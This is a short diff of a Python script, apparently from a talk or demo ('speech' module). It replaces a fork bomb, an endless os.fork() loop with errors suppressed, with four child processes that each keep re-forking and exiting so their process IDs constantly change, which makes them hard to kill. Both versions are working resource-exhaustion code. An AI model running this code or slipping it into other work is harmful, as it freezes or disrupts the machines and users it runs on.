@@ -1,11 +1,14 @@
-"""Forks as often as it can, and so do its children."""
+"""Has children that are never the same for long: each is replaced by its own child."""
 
 import os
-from contextlib import suppress
+import signal
 
 from speech import introduced
 
 for _ in introduced():
-    while True:
-        with suppress(OSError):
-            os.fork()
+    for _ in range(4):
+        if not os.fork():
+            while True:
+                if os.fork():
+                    os._exit(0)
+    signal.pause()
